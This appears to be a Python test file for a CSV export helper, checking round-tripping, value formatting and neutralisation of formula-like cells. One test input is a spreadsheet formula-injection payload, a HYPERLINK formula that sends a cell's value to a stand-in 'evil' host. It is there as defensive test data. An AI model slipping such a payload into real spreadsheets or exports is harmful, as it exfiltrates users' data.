"""Does CSV read back as it was written, and does no cell begin like a formula?"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services.core.reporting.csv_rows import csv_text

texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))


@given(st.lists(texts, min_size=1, max_size=8))
def test_what_is_written_reads_back_but_for_the_apostrophe(values: list[str]) -> None:
    written = csv_text(["name", "more"], [{"name": value, "more": 1} for value in values])
    header, *rows = csv.reader(io.StringIO(written, newline=""))
    assert header == ["name", "more"]
    assert len(rows) == len(values)
    for (name, more), value in zip(rows, values, strict=True):
        assert name in (value, f"'{value}")
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
        assert more == "1"


@pytest.mark.parametrize(
    "name", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil/?"&A1,"x")', "\uff1d1"]
)
def test_a_name_that_is_a_formula_is_none_any_more(name: str) -> None:
    ((cell,),) = list(csv.reader(io.StringIO(csv_text(["name"], [{"name": name}]), newline="")))[1:]
    assert cell == f"'{name}"


def test_numbers_times_objects_and_nothing() -> None:
    moment = datetime(2030, 1, 1, 2, tzinfo=timezone(timedelta(hours=2)))
    row = {"balance": -5, "share": -0.5, "at": moment, "before": {"b": [1], "a": "é"}, "left out": "x"}
    written = csv_text(["balance", "share", "at", "before", "after"], [row, {}])
    assert written == (
        'balance,share,at,before,after\r\n-5,-0.5,2030-01-01T00:00:00Z,"{""a"": ""é"", ""b"": [1]}",\r\n,,,,\r\n'
    )
    assert moment.astimezone(UTC).hour == 0
